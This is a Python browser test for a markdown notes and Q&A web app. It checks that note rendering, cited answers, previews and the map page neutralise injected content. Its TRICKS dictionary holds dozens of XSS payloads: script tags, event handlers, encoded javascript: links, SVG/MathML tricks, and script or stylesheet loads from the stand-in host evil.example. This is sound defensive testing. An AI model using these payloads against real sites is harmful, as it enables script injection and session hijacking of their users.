"""Notes that try to run something in the reader's browser, or to call another host: nothing does, on any page."""

import re
from pathlib import Path
from urllib.parse import quote

from bookshelf import write_vault
from browsing import Browser, visiting
from playwright.sync_api import expect

RUN = "window.ran=1"
AWAY = "https://evil.example"
HEAD = f'---\naliases: ["<img src=x onerror={RUN}>"]\n---\n'
TRICKS = {
    "script": f"<script>{RUN}</script>",
    "script-split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-from-away": f"<script src={AWAY}/x.js></script>",
    "image-error": f'<img src=x onerror="{RUN}">',
    "image-away": f"<img src={AWAY}/x.png>",
    "image-markdown": f"![x]({AWAY}/x.png)",
    "image-embedded": f"![[{AWAY}/x.png]]",
    "image-attribute": f'![x" onerror="{RUN}](x.png "x" onload="{RUN}")',
    "image-data": f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    "svg-use": f'<svg><use href="{AWAY}/x.svg#a"/></svg>',
    "iframe": f"<iframe src={AWAY}/></iframe>",
    "iframe-document": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "object": f"<object data={AWAY}/x></object><embed src={AWAY}/y>",
    "form": f"<form action={AWAY} id=f><input autofocus onfocus={RUN}><button>Дальше</button></form>",
    "style": f"<style>@import '{AWAY}/x.css';*{{background:url({AWAY}/x.png)!important}}</style>",
    "style-attribute": f'<div style="background:url({AWAY}/x.png);position:fixed;inset:0">x</div>',
    "stylesheet": f"<link rel=stylesheet href={AWAY}/x.css>",
    "base": f"<base href={AWAY}/>",
    "refresh": f'<meta http-equiv=refresh content="0;url={AWAY}">',
    "link-javascript": f"[нажми](javascript:{RUN})",
    "link-javascript-coded": f"[нажми](&#106;avascript:{RUN}) [и](java\tscript:{RUN}) [и](JaVaScRiPt:{RUN})",
    "link-data": f"[нажми](data:text/html,<script>{RUN}</script>)",
    "link-vbscript": f"[нажми](vbscript:{RUN}) <javascript:{RUN}>",
    "link-attribute": f'[нажми](https://a.example/"onmouseover="{RUN}) [и](x "t\' onclick={RUN}")',
    "reference": f"[нажми][а]\n\n[а]: javascript:{RUN}",
    "wikilink": f'[[Чай|"><img src=x onerror={RUN}>]] [[x" onclick="{RUN}]]',
    "tag": f'#тег"onclick={RUN} #<img/src=x>',
    "heading": f"## <img src=x onerror={RUN}>\n\nПод заголовком.",
    "table": f"| а | <img src=x onerror={RUN}> |\n|---|---|\n| <script>{RUN}</script> | б |",
    "code": f"`<img src=x onerror={RUN}>`\n\n```html\n</code></pre><script>{RUN}</script>\n```",
    "callout": f'> [!"><script>{RUN}</script>] <b onclick={RUN}>б</b>\n> ещё',
    "comment": f"<!-- --><script>{RUN}</script><!-- -->",
    "formula": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\url{{{AWAY}}}$$",
    "details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "video": f"<video src={AWAY}/x onloadstart={RUN}></video><audio src={AWAY}/y autoplay></audio>",
    "mathml": f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}></style></math>",
    "direction": "Обычный \u202etxet sdrawkcab\u202c текст\u200b\u2028конец",
}


def test_no_note_runs_anything(browser: Browser, running, tmp_path: Path) -> None:
    """Read one by one, drawn on the map, found, quoted in an answer with its sources; `visiting` hears what it asks."""
    notes = {
        f"{name}.md": f"{HEAD}# Приём {name}\n\n{trick}\n\nПароль: чай {name}.\n" for name, trick in TRICKS.items()
    }
    vault = write_vault(
        tmp_path / "vault", notes | {f"<img src=x onerror={RUN}>.md": f"# <script>{RUN}</script>\n\nИ имя.\n"}
    )
    assert len(notes) >= 30
    with running(tmp_path, corpus=vault, index=tmp_path / "index") as server:
        with visiting(browser, server.url) as visit:
            for name in ("script", "svg", "link-javascript", "table", "wikilink", "heading"):
                visit.ask(f"Какой пароль в заметке «Приём {name}»?")
                expect(visit.page.locator(".kbqa-answer").last).to_contain_text(f"чай {name}")
            peek, peeked = visit.page.locator("#kbqa-peek p"), set[str]()
            for chip in visit.page.locator("a.kbqa-cite").all():
                title = chip.get_attribute("title")
                chip.press("Shift")
                expect(peek.first).to_have_text(title or "-")
                expect(peek.last).to_have_text(re.compile(r"\S"))
                peeked |= {name for name in TRICKS if f"чай {name}" in peek.last.inner_text()}
                expect(visit.page.locator("#kbqa-peek :not(p)")).to_have_count(0)
            assert peeked == {"script", "svg", "link-javascript", "table", "wikilink", "heading"}
            visit.follow(visit.page.locator("a.kbqa-cite").first)
            for details in visit.page.locator("#kbqa-panel details").all():
                details.locator("summary").first.evaluate("summary => summary.click()")
            expect(visit.page.locator("#kbqa-question textarea")).to_be_visible()
            assert visit.page.evaluate("window.ran") is None
            expect(visit.page.locator(f"[src*='{AWAY}'], a[href^='javascript' i], a[href^='data:' i]")).to_have_count(0)
        with visiting(browser, server.url, path="/map", shows="svg") as visit:
            for name in TRICKS:
                visit.page.goto(f"{server.url}/notes?path={quote(name)}.md")
                expect(visit.page.locator("main")).to_contain_text(f"чай {name}")
                expect(
                    visit.page.locator(f"main :is(script, iframe, form, object, embed, style, [src*='{AWAY}'])")
                ).to_have_count(0)
                assert visit.page.evaluate("window.ran") is None, name
            visit.page.keyboard.press("/")
            visit.page.keyboard.type("script")
            assert visit.page.evaluate("window.ran") is None
